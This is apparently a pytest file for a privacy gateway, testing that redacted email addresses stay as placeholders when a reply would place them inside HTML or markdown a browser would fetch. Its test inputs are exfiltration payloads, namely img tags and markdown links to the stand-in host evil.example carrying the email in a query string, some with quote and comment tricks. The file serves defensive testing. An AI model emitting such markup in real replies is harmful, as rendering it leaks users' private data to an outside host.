"""Restoring through a real gateway, whole and streamed with the `openai` SDK: HTML a browser
reads as an attribute (a quote that opens nothing, a comment's end) and a pointy markdown
destination with a ")" keep their placeholders; the prose around them gets its value back."""

from __future__ import annotations

import pytest
from openai import OpenAI
from test_output_fields import policy

from gateway_support import Deployment, wait_until_accepted
from helpers import start_gateway

EMAIL = "jane.doe@example.com"


@pytest.fixture(scope="module")
def gateway_and_key(tmp_path_factory, shared_models_dir, mock, logs):
    home = Deployment(tmp_path_factory.mktemp("restore-markup") / "home", policy(mock.url), shared_models_dir)
    key = home.key(home.identity("restore-app"))
    gateway = start_gateway(home.env, logs, name="restore-markup-gateway")
    wait_until_accepted(gateway, key)
    yield gateway, key
    gateway.stop()


@pytest.mark.parametrize("construct", [
    '<img x" src="//evil.example/?a=> {} ">',
    '<!-- a="--> <img src="//evil.example/?a=> {} ">',
    "[x](<//evil.example/?) {} >)",
    "> [a]: < //evil.example/? {} >\n\n[click][a]",
])
def test_a_value_a_browser_would_send_stays_a_placeholder_whole_and_streamed(gateway_and_key, construct):
    gateway, key = gateway_and_key
    sdk = OpenAI(base_url=f"{gateway.url}/v1", api_key=key, max_retries=0, timeout=30)
    said = f"Reply to {EMAIL}.\n\n" + construct.format(EMAIL)
    whole = sdk.chat.completions.create(model="mirror", messages=[{"role": "user", "content": said}])
    content = whole.choices[0].message.content
    assert content.startswith(f"Reply to {EMAIL}.") and content.count(EMAIL) == 1  # the prose one only
    streamed = "".join(chunk.choices[0].delta.content or "" for chunk in sdk.chat.completions.create(
        model="mirror", messages=[{"role": "user", "content": said}], stream=True) if chunk.choices)
    assert streamed == content
